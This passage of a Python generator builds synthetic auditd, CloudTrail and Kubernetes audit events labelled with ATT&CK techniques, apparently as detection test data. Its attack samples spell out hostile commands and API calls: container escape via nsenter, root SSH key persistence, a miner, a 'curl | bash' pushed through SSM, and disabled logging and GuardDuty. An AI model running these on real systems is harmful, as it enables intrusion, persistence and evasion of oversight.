    group(110, ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"], 0, 4294967295, "/usr/bin/nsenter", "exec", "T1611", "entering the host's namespaces from a container", with_syscall=False, with_proctitle=False)
    group(120, ["find", "/", "-perm", "-4000", "-type", "f"], 33, 4294967295, "/usr/bin/find", "exec_www", "T1083", "web user hunting for SUID binaries", with_syscall=False, with_proctitle=False)
    group(130, ["crontab", "/tmp/.c"], 33, 4294967295, "/usr/bin/crontab", "cron", "T1053.003", "web user installing a crontab from /tmp", with_syscall=False)
    add(s, f"type=ANOM_PROMISCUOUS msg={m(140)}: dev=ens5 prom=256 old_prom=0 auid=1003 uid=0 gid=0 ses=44 AUID=\"svc_ftp\" UID=\"root\" GID=\"root\"", "T1040", "interface put in promiscuous mode by the attacker's session")
    group(150, ["/var/tmp/.syst3md", "-o", "pool.hashvault.pro:443", "--tls", "-k", "--cpu-max-threads-hint=75"], 1003, 1003, "/var/tmp/.syst3md", "exec", "T1496.001", "hidden miner binary with pool arguments", with_syscall=False)
    group(160, ["sh", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleOnlyNotARealKeyExampleOnly0000 x@k >> /root/.ssh/authorized_keys"], 0, 1003, "/usr/bin/dash", "exec", "T1098.004", "attacker key appended to root's authorized_keys", with_syscall=False, with_proctitle=False)
    group(170, ["install", "-m", "4755", "/bin/sh", "/var/tmp/.s"], 0, 1003, "/usr/bin/install", "exec", "T1548.001", "SUID copy of sh", with_syscall=False, with_proctitle=False)
    # benign
    group(300, ["systemctl", "restart", "postgresql"], 0, 1002, "/usr/bin/systemctl", "exec", None, "admin restarting postgres")
    group(310, ["dnf", "-y", "update"], 0, 1002, "/usr/bin/dnf-3", "exec", None, "patching")
    group(320, ["git", "pull", "--ff-only"], 1004, 1004, "/usr/bin/git", "exec", None, "deploy pulling code", with_syscall=False)
    group(330, ["restic", "-r", "s3:s3.amazonaws.com/nwind-backups/prod", "backup", "/etc", "/srv"], 0, 4294967295, "/usr/local/bin/restic", "exec", None, "backup timer", with_syscall=False)
    group(340, ["tar", "czf", "/backup/pg-2026-12-02.tgz", "/var/lib/pgsql/backups"], 26, 4294967295, "/usr/bin/tar", "exec", None, "database dump archive", with_syscall=False)
    add(s, f"type=USER_LOGIN msg={m(350)}: pid=5512 uid=0 auid=1002 ses=77 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login id=1002 exe=\"/usr/sbin/sshd\" hostname=? addr=10.80.0.30 terminal=/dev/pts/0 res=success' UID=\"root\" AUID=\"opsadmin\" ID=\"opsadmin\"",
        None, "admin ssh login")
    add(s, f"type=USER_AUTH msg={m(355)}: pid=5590 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=PAM:authentication grantors=? acct=\"k.olsen\" exe=\"/usr/sbin/sshd\" hostname=172.16.12.44 addr=172.16.12.44 terminal=ssh res=failed' UID=\"root\" AUID=\"unset\"",
        None, "a single failed login")
    add(s, f"type=CRED_ACQ msg={m(356)}: pid=5512 uid=0 auid=1002 ses=77 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=PAM:setcred grantors=pam_env,pam_unix acct=\"opsadmin\" exe=\"/usr/sbin/sshd\" hostname=10.80.0.30 addr=10.80.0.30 terminal=ssh res=success'",
        None, "PAM setcred")
    add(s, f"type=USER_START msg={m(357)}: pid=5512 uid=0 auid=1002 ses=77 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=PAM:session_open grantors=pam_selinux,pam_loginuid,pam_keyinit,pam_limits,pam_systemd,pam_unix acct=\"opsadmin\" exe=\"/usr/sbin/sshd\" hostname=10.80.0.30 addr=10.80.0.30 terminal=ssh res=success'",
        None, "session start")
    add(s, f"type=USER_CMD msg={m(360)}: pid=5601 uid=1002 auid=1002 ses=77 subj=unconfined_u:unconfined_r:unconfined_t:s0 msg='cwd=\"/home/opsadmin\" cmd={hexs('systemctl status nginx')} exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
        None, "admin sudo (hex cmd)")
    add(s, f"type=CONFIG_CHANGE msg={m(365)}: auid=4294967295 ses=4294967295 subj=system_u:system_r:unconfined_service_t:s0 op=add_rule key=\"identity\" list=4 res=1",
        None, "augenrules loading rules at boot")
    add(s, f"type=SERVICE_START msg={m(370)}: pid=1 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:init_t:s0 msg='unit=dnf-makecache comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
        None, "metadata cache timer")
    add(s, f"type=SYSCALL msg={m(375)}: arch=c000003e syscall=257 success=yes exit=5 a0=ffffff9c a1=7f1e2d3c4b50 a2=80000 a3=0 items=1 ppid=5590 pid=5591 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"unix_chkpwd\" exe=\"/usr/sbin/unix_chkpwd\" subj=system_u:system_r:chkpwd_t:s0-s0:c0.c1023 key=\"shadow\"",
        None, "PAM's own helper reading /etc/shadow to check a password")


ACCT = "444455556666"


def ctv(ev, wrap=False):
    base = {"eventVersion": "1.10", "userIdentity": ev.pop("userIdentity"), "eventTime": ev.pop("eventTime"), "eventSource": ev.pop("eventSource"), "eventName": ev.pop("eventName"),
            "awsRegion": ev.pop("awsRegion", "us-east-2"), "sourceIPAddress": ev.pop("sourceIPAddress"), "userAgent": ev.pop("userAgent", "Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/linux#5.15 md/arch#x86_64 lang/python#3.12.7 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.36"),
            "requestParameters": ev.pop("requestParameters", None), "responseElements": ev.pop("responseElements", None)}
    base.update(ev)
    base.setdefault("requestID", guid())
    base["eventID"] = guid()
    base.setdefault("readOnly", False)
    base.setdefault("eventType", "AwsApiCall")
    base.setdefault("managementEvent", True)
    base["recipientAccountId"] = ACCT
    base.setdefault("eventCategory", "Management")
    base["tlsDetails"] = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256", "clientProvidedHostHeader": base["eventSource"]}
    return json.dumps({"Records": [base]} if wrap else base, separators=(",", ":"))


def user(name, key):
    return {"type": "IAMUser", "principalId": "AIDAEXAMPLE" + "".join(c for c in name.upper() if c.isalnum())[:9].ljust(9, "Q"), "arn": f"arn:aws:iam::{ACCT}:user/{name}", "accountId": ACCT, "accessKeyId": key, "userName": name}


def assumed(role, sess, key, mfa="false"):
    return {"type": "AssumedRole", "principalId": f"AROAEXAMPLEHELDOUT01:{sess}", "arn": f"arn:aws:sts::{ACCT}:assumed-role/{role}/{sess}", "accountId": ACCT, "accessKeyId": key,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAEXAMPLEHELDOUT01", "arn": f"arn:aws:iam::{ACCT}:role/{role}", "accountId": ACCT, "userName": role},
                               "webIdFederationData": {}, "attributes": {"creationDate": iso(0, False), "mfaAuthenticated": mfa}}}


def cloudtrail():
    s = "aws-cloudtrail"
    leak = user("jenkins-legacy", "AKIAEXAMPLEHELDOUT01")
    X = "23.129.64.211"

    def e(sec, src, name, ident, ip, req=None, resp=None, wrap=False, **kw):
        ev = {"eventTime": iso(sec, False), "eventSource": src, "eventName": name, "userIdentity": ident, "sourceIPAddress": ip, "requestParameters": req, "responseElements": resp}
        ev.update(kw)
        return ctv(ev, wrap)
    add(s, e(5, "sts.amazonaws.com", "GetCallerIdentity", leak, X, readOnly=True, userAgent="aws-cli/2.22.4 md/awscrt#0.23.4 ua/2.0 os/linux#6.11.2-amd64 md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython cmd/sts.get-caller-identity"),
        "T1087.004", "leaked CI key first used from a TOR exit: who am I")
    for i, n in enumerate(["ListUsers"]):
        add(s, e(8 + i, "iam.amazonaws.com", n, leak, X, {"maxItems": 1000} if n != "ListAccessKeys" else {"userName": "ops-admin"}, readOnly=True, awsRegion="us-east-1"), "T1087.004", "IAM enumeration from the same TOR exit")
    for i, n in enumerate(["DescribeSnapshots"]):
        add(s, e(12 + i, "ec2.amazonaws.com", n, leak, X, {"maxResults": 1000, "filterSet": {}}, readOnly=True, errorCode="Client.UnauthorizedOperation" if i == 0 else None) .replace(',"errorCode":null', ""),
            "T1580", "infrastructure enumeration with the leaked key")
    add(s, e(20, "iam.amazonaws.com", "CreateUser", leak, X, {"userName": "aws-support-sync"}, {"user": {"path": "/", "userName": "aws-support-sync", "userId": "AIDAEXAMPLEHELDOUT02", "arn": f"arn:aws:iam::{ACCT}:user/aws-support-sync", "createDate": t(20).strftime("%b %d, %Y, %I:%M:%S %p")}}, awsRegion="us-east-1"),
        "T1136.003", "new IAM user created from a TOR exit")
    add(s, e(22, "iam.amazonaws.com", "PutUserPolicy", leak, X, {"userName": "aws-support-sync", "policyName": "sync", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"}, awsRegion="us-east-1"),
        "T1098.003", "inline policy granting every action on every resource")
    add(s, e(24, "iam.amazonaws.com", "CreateLoginProfile", leak, X, {"userName": "aws-support-sync", "passwordResetRequired": False}, {"loginProfile": {"userName": "aws-support-sync", "createDate": t(24).strftime("%b %d, %Y, %I:%M:%S %p"), "passwordResetRequired": False}}, awsRegion="us-east-1"),
        "T1098.001", "console password added to the new user")
    add(s, e(26, "iam.amazonaws.com", "CreateAccessKey", leak, X, {"userName": "ops-admin"}, {"accessKey": {"userName": "ops-admin", "accessKeyId": "AKIAEXAMPLEHELDOUT03", "status": "Active", "createDate": t(26).strftime("%b %d, %Y, %I:%M:%S %p")}}, awsRegion="us-east-1"),
        "T1098.001", "key minted for the admin user by the CI user")
    add(s, e(28, "iam.amazonaws.com", "UpdateAssumeRolePolicy", leak, X, {"roleName": "OrganizationAccountAccessRole", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::999988887777:root\"},\"Action\":\"sts:AssumeRole\"}]}"}, awsRegion="us-east-1"),
        "T1484.002", "admin role now trusts an unknown external account")
    add(s, e(30, "iam.amazonaws.com", "DeactivateMFADevice", leak, X, {"userName": "ops-admin", "serialNumber": f"arn:aws:iam::{ACCT}:mfa/ops-admin"}, awsRegion="us-east-1"), "T1556.006", "admin's MFA device removed by someone else")
    add(s, e(32, "cloudtrail.amazonaws.com", "StopLogging", leak, X, {"name": f"arn:aws:cloudtrail:us-east-2:{ACCT}:trail/management-events"}, wrap=True), "T1562.008", "trail stopped (Records-wrapped export)")
    add(s, e(34, "config.amazonaws.com", "StopConfigurationRecorder", leak, X, {"configurationRecorderName": "default"}), "T1562.008", "AWS Config recording stopped")
    add(s, e(36, "guardduty.amazonaws.com", "UpdateDetector", leak, X, {"detectorId": "a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d1", "enable": False}), "T1562.001", "GuardDuty detector disabled")
    add(s, e(38, "guardduty.amazonaws.com", "CreateFilter", leak, X, {"detectorId": "a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d1", "name": "noise", "action": "ARCHIVE", "findingCriteria": {"criterion": {"severity": {"gte": 1}}}}),
        "T1562.001", "filter that auto-archives every GuardDuty finding")
    add(s, e(40, "ec2.amazonaws.com", "ModifySnapshotAttribute", leak, X, {"snapshotId": "snap-0a1b2c3d4e5f67890", "createVolumePermission": {"add": {"items": [{"userId": "999988887777"}]}}, "attributeType": "CREATE_VOLUME_PERMISSION"}),
        "T1537", "database volume snapshot shared with an external account")
    add(s, e(42, "rds.amazonaws.com", "ModifyDBSnapshotAttribute", leak, X, {"dBSnapshotIdentifier": "erp-prod-2026-12-01", "attributeName": "restore", "valuesToAdd": ["all"]}), "T1537", "RDS snapshot made public")
    add(s, e(44, "s3.amazonaws.com", "DeleteBucketPublicAccessBlock", leak, X, {"bucketName": "nwind-customer-exports", "publicAccessBlock": "", "Host": "nwind-customer-exports.s3.us-east-2.amazonaws.com"}),
        "T1530", "public access block removed from a customer-data bucket")
    add(s, e(46, "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", leak, X, {"groupId": "sg-0123abcd4567ef890", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}),
        "T1562.007", "SSH opened to the whole internet")
    add(s, e(48, "ssm.amazonaws.com", "SendCommand", leak, X, {"documentName": "AWS-RunShellScript", "instanceIds": ["i-0a1b2c3d4e5f60001", "i-0a1b2c3d4e5f60002", "i-0a1b2c3d4e5f60003", "i-0a1b2c3d4e5f60004"], "parameters": {"commands": ["curl -s http://37.120.201.9/x | bash"]}, "interactive": False}),
        "T1651", "shell command pushed to several instances through SSM")
    add(s, e(50, "ec2.amazonaws.com", "RunInstances", leak, X, {"instancesSet": {"items": [{"imageId": "ami-0c1d2e3f4a5b6c7d8", "minCount": 30, "maxCount": 30}]}, "instanceType": "g5.12xlarge", "blockDeviceMapping": {}, "monitoring": {"enabled": False}}, awsRegion="sa-east-1"),
        "T1496.001", "30 GPU instances in a region the company does not use")
    for i, sid in enumerate(["erp/prod/db", "payments/stripe", "hr/workday-api", "sso/okta-api"]):
        add(s, e(60 + i, "secretsmanager.amazonaws.com", "GetSecretValue", leak, X, {"secretId": f"arn:aws:secretsmanager:us-east-2:{ACCT}:secret:{sid}-AbCdEf"}, readOnly=True, eventCategory="Management"),
            "T1555.006", "leaked key reading many unrelated secrets within seconds")
    add(s, e(72, "s3.amazonaws.com", "PutBucketLifecycle", leak, X, {"bucketName": "nwind-backups", "LifecycleConfiguration": {"Rule": {"ID": "cleanup", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}}}),
        "T1485", "backup bucket set to expire everything after a day")
    add(s, e(80, "signin.amazonaws.com", "ConsoleLogin", {"type": "Root", "principalId": ACCT, "arn": f"arn:aws:iam::{ACCT}:root", "accountId": ACCT}, "196.251.72.18", None, {"ConsoleLogin": "Success"},
             awsRegion="us-east-1", userAgent="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/128.0 Safari/537.36",
             additionalEventData={"LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23", "MobileVersion": "No", "MFAUsed": "No"}, eventType="AwsConsoleSignIn"),
        "T1078.004", "root console login without MFA from an unknown foreign address")
    # benign
    me = user("k.olsen", "AKIAEXAMPLEHELDOUT04")
    add(s, e(300, "iam.amazonaws.com", "CreateAccessKey", me, "198.18.40.12", {"userName": "k.olsen"}, {"accessKey": {"userName": "k.olsen", "accessKeyId": "AKIAEXAMPLEHELDOUT05", "status": "Active", "createDate": t(300).strftime("%b %d, %Y, %I:%M:%S %p")}}, awsRegion="us-east-1",
             userAgent="AWS Internal"), None, "user rotating her own key from the office (new key)")
    add(s, e(305, "iam.amazonaws.com", "UpdateAccessKey", user("k.olsen", "AKIAEXAMPLEHELDOUT05"), "198.18.40.12", {"userName": "k.olsen", "accessKeyId": "AKIAEXAMPLEHELDOUT04", "status": "Inactive"}, awsRegion="us-east-1"), None, "old key deactivated")
    add(s, e(310, "iam.amazonaws.com", "DeleteAccessKey", user("k.olsen", "AKIAEXAMPLEHELDOUT05"), "198.18.40.12", {"userName": "k.olsen", "accessKeyId": "AKIAEXAMPLEHELDOUT04"}, awsRegion="us-east-1"), None, "old key deleted")
    rot = assumed("SecretsManagerRotation-erp-db", "SecretsManagerRotationSession", "ASIAEXAMPLEHELDOUT06")
    add(s, e(315, "secretsmanager.amazonaws.com", "RotateSecret", rot, "secretsmanager.amazonaws.com", {"secretId": "erp/prod/db", "rotationLambdaARN": f"arn:aws:lambda:us-east-2:{ACCT}:function:SecretsManager-erp-db-rotation"}, userAgent="secretsmanager.amazonaws.com"),
        None, "scheduled secret rotation")
    add(s, e(317, "secretsmanager.amazonaws.com", "PutSecretValue", rot, "lambda.amazonaws.com", {"secretId": "erp/prod/db", "clientRequestToken": guid(), "versionStages": ["AWSPENDING"]}, userAgent="lambda.amazonaws.com"),
        None, "rotation lambda storing the new version")
    kr = assumed("iam-key-rotator", "rotator-20261202", "ASIAEXAMPLEHELDOUT07")
    add(s, e(320, "iam.amazonaws.com", "CreateAccessKey", kr, "3.145.22.10", {"userName": "svc-datadog"}, {"accessKey": {"userName": "svc-datadog", "accessKeyId": "AKIAEXAMPLEHELDOUT08", "status": "Active", "createDate": t(320).strftime("%b %d, %Y, %I:%M:%S %p")}}, awsRegion="us-east-1",
             userAgent="Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/linux exec-env/AWS_Lambda_python3.12"), None, "key-rotation automation role minting the service user's new key")
    add(s, e(322, "iam.amazonaws.com", "DeleteAccessKey", kr, "3.145.22.10", {"userName": "svc-datadog", "accessKeyId": "AKIAEXAMPLEHELDOUT09"}, awsRegion="us-east-1",
             userAgent="Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/linux exec-env/AWS_Lambda_python3.12"), None, "and deleting the previous one")
    add(s, e(325, "kms.amazonaws.com", "EnableKeyRotation", assumed("AWSReservedSSO_SecurityAdmin_1a2b3c4d5e6f7a8b", "a.kowalski@nwind.example", "ASIAEXAMPLEHELDOUT10", "true"), "198.18.40.12",
             {"keyId": "0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b", "rotationPeriodInDays": 365}), None, "security admin enabling yearly rotation")
    add(s, e(327, "kms.amazonaws.com", "GenerateDataKey", assumed("erp-app-task-role", "ecs-task-77", "ASIAEXAMPLEHELDOUT11"), "ecs-tasks.amazonaws.com", {"keyId": "alias/erp-data", "keySpec": "AES_256"}, readOnly=True, userAgent="ecs-tasks.amazonaws.com",
             managementEvent=False, eventCategory="Data"), None, "app encrypting data")
    dlm = assumed("AWSDataLifecycleManagerDefaultRole", "DLM", "ASIAEXAMPLEHELDOUT12")
    add(s, e(330, "ec2.amazonaws.com", "CreateSnapshot", dlm, "dlm.amazonaws.com", {"volumeId": "vol-0f1e2d3c4b5a69788", "description": "Created for policy: policy-0a1b2c3d4e5f67890 schedule: Daily"}, userAgent="dlm.amazonaws.com"), None, "Data Lifecycle Manager daily snapshot")
    add(s, e(332, "ec2.amazonaws.com", "DeleteSnapshot", dlm, "dlm.amazonaws.com", {"snapshotId": "snap-0fedcba987654321"}, userAgent="dlm.amazonaws.com"), None, "DLM retention pruning an old snapshot")
    add(s, e(335, "backup.amazonaws.com", "CopyIntoBackupVault", assumed("AWSBackupDefaultServiceRole", "AWSBackup-AWSBackupDefaultServiceRole", "ASIAEXAMPLEHELDOUT13"), "backup.amazonaws.com",
             {"sourceBackupVaultName": "prod-vault", "destinationBackupVaultArn": f"arn:aws:backup:us-west-2:{ACCT}:backup-vault:dr-vault"}, userAgent="backup.amazonaws.com"), None, "cross-region backup copy")
    gh = {"type": "WebIdentityUser", "principalId": f"arn:aws:iam::{ACCT}:oidc-provider/token.actions.githubusercontent.com:sts.amazonaws.com:repo:nwind/erp:ref:refs/heads/main", "userName": "repo:nwind/erp:ref:refs/heads/main",
          "identityProvider": f"arn:aws:iam::{ACCT}:oidc-provider/token.actions.githubusercontent.com"}
    add(s, e(340, "sts.amazonaws.com", "AssumeRoleWithWebIdentity", gh, "4.148.0.12", {"roleArn": f"arn:aws:iam::{ACCT}:role/gha-erp-deploy", "roleSessionName": "GitHubActions", "durationSeconds": 3600}, userAgent="aws-sdk-js/3.693.0"),
        None, "GitHub Actions OIDC deploy")
    dd = assumed("DatadogIntegrationRole", "DatadogAWSIntegration", "ASIAEXAMPLEHELDOUT14")
    for i, n in enumerate(["DescribeInstances", "DescribeSecurityGroups", "DescribeVolumes"]):
        add(s, e(345 + i, "ec2.amazonaws.com", n, dd, "3.233.144.10", {"maxResults": 1000}, readOnly=True, userAgent="Datadog"), None, "monitoring integration polling inventory")
    add(s, e(350, "ssm.amazonaws.com", "SendCommand", assumed("AWSServiceRoleForAmazonSSM", "PatchManager", "ASIAEXAMPLEHELDOUT15"), "ssm.amazonaws.com",
             {"documentName": "AWS-RunPatchBaseline", "instanceIds": ["i-0a1b2c3d4e5f60001", "i-0a1b2c3d4e5f60002"], "parameters": {"Operation": ["Install"], "RebootOption": ["RebootIfNeeded"]}}, userAgent="ssm.amazonaws.com"),
        None, "Patch Manager maintenance window")
    add(s, e(355, "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", assumed("terraform-apply", "atlantis-4412", "ASIAEXAMPLEHELDOUT16"), "3.145.22.30",
             {"groupId": "sg-0fedcba9876543210", "ipPermissions": {"items": [{"ipProtocol": "tcp", "fromPort": 5432, "toPort": 5432, "ipRanges": {"items": [{"cidrIp": "10.80.0.0/16", "description": "app subnets"}]}}]}}, userAgent="APN/1.0 HashiCorp/1.0 Terraform/1.10.0"),
        None, "Terraform opening postgres to the VPC only")
    add(s, e(360, "s3.amazonaws.com", "PutBucketPolicy", assumed("terraform-apply", "atlantis-4412", "ASIAEXAMPLEHELDOUT16"), "3.145.22.30",
             {"bucketName": "nwind-backups", "bucketPolicy": {"Version": "2012-10-17", "Statement": [{"Sid": "DenyInsecureTransport", "Effect": "Deny", "Principal": "*", "Action": "s3:*", "Resource": ["arn:aws:s3:::nwind-backups", "arn:aws:s3:::nwind-backups/*"], "Condition": {"Bool": {"aws:SecureTransport": "false"}}}]}},
             userAgent="APN/1.0 HashiCorp/1.0 Terraform/1.10.0"), None, "bucket policy that only denies plain HTTP (Principal * with Deny)")
    add(s, e(365, "iam.amazonaws.com", "CreateUser", assumed("terraform-apply", "atlantis-4412", "ASIAEXAMPLEHELDOUT16"), "3.145.22.30", {"userName": "svc-snowflake-ingest", "tags": [{"key": "ticket", "value": "PLAT-2291"}]},
             awsRegion="us-east-1", userAgent="APN/1.0 HashiCorp/1.0 Terraform/1.10.0"), None, "service user created by the reviewed Terraform pipeline")
    add(s, e(370, "ec2.amazonaws.com", "RunInstances", {"type": "AWSService", "invokedBy": "autoscaling.amazonaws.com"}, "autoscaling.amazonaws.com",
             {"instancesSet": {"items": [{"imageId": "ami-0a9b8c7d6e5f4a3b2", "minCount": 1, "maxCount": 1}]}, "instanceType": "c6i.large"}, userAgent="autoscaling.amazonaws.com"), None, "autoscaling scale-out")
    sso = assumed("AWSReservedSSO_AdministratorAccess_9f8e7d6c5b4a3f2e", "admin_sholm@nwind.example", "ASIAEXAMPLEHELDOUT17", "true")
    add(s, e(375, "signin.amazonaws.com", "ConsoleLogin", sso, "198.18.40.15", None, {"ConsoleLogin": "Success"}, awsRegion="us-east-1", userAgent="Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/131.0",
             additionalEventData={"MobileVersion": "No", "MFAUsed": "No", "SamlProviderArn": f"arn:aws:iam::{ACCT}:saml-provider/AWSSSO_1a2b_DO_NOT_DELETE"}, eventType="AwsConsoleSignIn"),
        None, "IAM Identity Center federated login (MFA is done at the IdP, so MFAUsed is No)")
    add(s, e(380, "signin.amazonaws.com", "ConsoleLogin", {"type": "IAMUser", "principalId": "AIDAEXAMPLEBREAKGLS", "accountId": ACCT, "userName": "m.santos"}, "198.18.40.22", None, {"ConsoleLogin": "Failure"},
             awsRegion="us-east-1", userAgent="Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) Safari/605.1.15", errorMessage="Failed authentication",
             additionalEventData={"MobileVersion": "No", "MFAUsed": "Yes"}, eventType="AwsConsoleSignIn"), None, "a single failed console login from the office")
    add(s, e(385, "secretsmanager.amazonaws.com", "GetSecretValue", assumed("erp-app-task-role", "ecs-task-77", "ASIAEXAMPLEHELDOUT11"), "ecs-tasks.amazonaws.com", {"secretId": "erp/prod/db"}, readOnly=True, userAgent="ecs-tasks.amazonaws.com"),
        None, "ECS task fetching its DB secret at start")
    add(s, e(390, "s3.amazonaws.com", "GetObject", assumed("erp-app-task-role", "ecs-task-77", "ASIAEXAMPLEHELDOUT11"), "10.80.3.14", {"bucketName": "nwind-erp-config", "key": "prod/app.yaml"}, readOnly=True, managementEvent=False, eventCategory="Data"),
        None, "config read")
    add(s, e(397, "s3.amazonaws.com", "ListBuckets", assumed("AWSServiceRoleForConfig", "AWSConfig-Describe", "ASIAEXAMPLEHELDOUT18"), "config.amazonaws.com", None, readOnly=True, userAgent="config.amazonaws.com"), None, "AWS Config inventory")


def kev(sec, verb, username, groups, resource, ns=None, name=None, sub=None, code=200, ip="172.20.4.9", ua="kubectl/v1.32.0 (darwin/arm64) kubernetes/70d3cc9", group=None,
        req=None, decision="allow", reason="", uid=None, extra_annotations=None):
    ver = "v1"
    ref = {"resource": resource}
    if ns:
        ref["namespace"] = ns
    if name:
        ref["name"] = name
    if group:
        ref["apiGroup"] = group
    ref["apiVersion"] = ver
    if sub:
        ref["subresource"] = sub
    uri = (f"/apis/{group}/{ver}" if group else f"/api/{ver}") + (f"/namespaces/{ns}" if ns else "") + f"/{resource}" + (f"/{name}" if name else "") + (f"/{sub}" if sub else "")
    if sub in ("exec", "attach"):
        uri += "?command=bash&container=app&stdin=true&stdout=true&tty=true" if sub == "exec" else "?container=app&stdin=true&stdout=true&tty=true"
    ann = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}
    if extra_annotations:
        ann.update(extra_annotations)
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse" if req is not None else "Metadata", "auditID": guid(), "stage": "ResponseComplete",
          "requestURI": uri, "verb": verb, "user": {"username": username, "uid": uid or guid(), "groups": groups}, "sourceIPs": [ip], "userAgent": ua, "objectRef": ref,
          "responseStatus": {"metadata": {}, "code": code}}
    if code >= 400:
        ev["responseStatus"].update({"status": "Failure", "reason": "Forbidden", "message": f"{resource} is forbidden: User \"{username}\" cannot {verb} resource \"{resource}\""})
    if req is not None:
        ev["requestObject"] = req
    ev["requestReceivedTimestamp"] = iso(sec)
    ev["stageTimestamp"] = iso(sec)
    ev["annotations"] = ann
    return json.dumps(ev, separators=(",", ":"))


def kubernetes():
    s = "kubernetes-audit"

    def sa(ns, n):
        return f"system:serviceaccount:{ns}:{n}", ["system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"]
    ci, cig = sa("ci", "runner")
    add(s, kev(10, "create", ci, cig, "pods", "prod", "erp-api-6f7d9c8b5-q2xkz", sub="exec", code=101, ip="172.20.9.41", ua="kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5"),
        "T1609", "CI runner's service account opening a shell in a production pod")
    add(s, kev(15, "create", "contractor.ramos@partner.example", ["oidc:partners", "system:authenticated"], "pods", "prod", "erp-worker-0", sub="attach", code=101, ip="172.20.7.130"),
        "T1609", "partner account attaching to a production pod")
    add(s, kev(20, "patch", "dev.lindgren@nwind.example", ["oidc:developers", "system:authenticated"], "pods", "prod", "erp-api-6f7d9c8b5-q2xkz", sub="ephemeralcontainers", ip="172.20.7.77",
               req={"kind": "Pod", "apiVersion": "v1", "spec": {"ephemeralContainers": [{"name": "debugger-x7k2p", "image": "docker.io/nicolaka/netshoot:latest", "targetContainerName": "app", "stdin": True, "tty": True}]}}),
        "T1609", "kubectl debug ephemeral container injected into a production pod by a developer")
    add(s, kev(25, "get", ci, cig, "nodes", None, "ip-172-20-1-14.us-east-2.compute.internal", sub="proxy", ip="172.20.9.41", ua="curl/8.9.1"),
        "T1609", "service account calling the kubelet through nodes/proxy (exec without pods/exec)")
    add(s, kev(30, "create", ci, cig, "pods", "ci", "build-cache-warm", code=201, ip="172.20.9.41", ua="kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5",
               req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "build-cache-warm"}, "spec": {"hostNetwork": True, "containers": [{"name": "c", "image": "alpine:3.21", "command": ["sleep", "86400"], "volumeMounts": [{"name": "sock", "mountPath": "/run/containerd/containerd.sock"}]}],
                                                                                              "volumes": [{"name": "sock", "hostPath": {"path": "/run/containerd/containerd.sock", "type": "Socket"}}]}}),
        "T1611", "pod mounting the node's containerd socket with host networking")
    add(s, kev(35, "create", "dev.lindgren@nwind.example", ["oidc:developers", "system:authenticated"], "daemonsets", "kube-system", "node-exporter-v2", code=201, ip="172.20.7.77", group="apps",
               req={"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "node-exporter-v2", "namespace": "kube-system"}, "spec": {"template": {"spec": {"hostPID": True, "containers": [{"name": "ne", "image": "quay.io/promethus-io/node-exporter:latest", "securityContext": {"privileged": True}}]}}}}),
        "T1610", "privileged daemonset in kube-system from a typo-squatted image, created by a person")
    add(s, kev(40, "create", "dev.lindgren@nwind.example", ["oidc:developers", "system:authenticated"], "serviceaccounts", "kube-system", "clusterrole-aggregation-controller", sub="token", code=201, ip="172.20.7.77",
               req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 315360000}}),
        "T1528", "ten-year token minted for a powerful kube-system controller account")
    add(s, kev(45, "create", "dev.lindgren@nwind.example", ["oidc:developers", "system:authenticated"], "clusterrolebindings", None, "oidc-authenticated-admin", code=201, ip="172.20.7.77", group="rbac.authorization.k8s.io",
               req={"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "oidc-authenticated-admin"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                    "subjects": [{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:authenticated"}]}),
        "T1098.006", "every authenticated identity made cluster-admin")
